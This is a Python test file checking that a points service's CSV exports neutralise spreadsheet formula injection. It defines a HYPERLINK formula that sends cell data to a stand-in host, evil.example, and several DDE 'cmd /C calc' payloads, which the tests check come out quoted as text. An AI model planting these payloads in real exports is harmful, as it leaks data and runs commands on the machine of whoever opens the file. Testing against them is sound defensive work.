"""CSV cells a spreadsheet never runs: the rule, and the exports written on a real database."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from models import Member
from services.clock import Clock
from services.csvcells import SafeWriter, safe_cell
from services.exports import ENCODING, ExportKind, write_csv
from services.points import PointsService
from tests.unit.conftest import GROUP

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("小明", "小明"),
        ("a=1", "a=1"),
        (" =1", " =1"),  # not a formula start: OWASP's list, no more
        ("", ""),
        ("-5", "-5"),  # a plain number is read as that number
        ("-0.50", "-0.50"),
        ("12", "12"),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_text_that_could_start_a_formula_is_quoted_and_numbers_are_left(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written


def test_the_writer_quotes_every_cell_of_every_row() -> None:
    out = io.StringIO(newline="")
    writer = SafeWriter(out)
    writer.writerow(["name", "delta"])
    writer.writerows([[HYPERLINK, -5], [DDE, 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["name", "delta"], ["'" + HYPERLINK, "-5"], ["'" + DDE, "3"]]


async def test_every_export_writes_a_hostile_name_as_text_and_a_negative_delta_as_a_number(
    session_pool: async_sessionmaker[AsyncSession], chat: int
) -> None:
    async with session_pool() as session, session.begin():
        points = PointsService(session, Clock(), "Asia/Shanghai")
        await points.change(GROUP, 7, 10, reason="admin", key="up", ref=DDE)
        await points.change(GROUP, 7, -5, reason="admin", key="down", ref="@everyone")
        await session.execute(update(Member).values(display_name=HYPERLINK))
    exported: dict[ExportKind, list[dict[str, str]]] = {}
    async with session_pool() as session:
        for kind in (ExportKind.MEMBERS, ExportKind.LEDGER):
            buffer = io.BytesIO()
            out = io.TextIOWrapper(buffer, encoding=ENCODING, newline="")
            await write_csv(session, out, kind, GROUP, "Asia/Shanghai")
            out.flush()
            exported[kind] = list(csv.DictReader(io.StringIO(buffer.getvalue().decode(ENCODING))))
    (member,) = exported[ExportKind.MEMBERS]
    assert (member["name"], member["points"]) == ("'" + HYPERLINK, "5")
    ledger = exported[ExportKind.LEDGER]
    assert [(row["name"], row["delta"], row["ref"]) for row in ledger] == [
        ("'" + HYPERLINK, "10", "'" + DDE),
        ("'" + HYPERLINK, "-5", "'@everyone"),
    ]
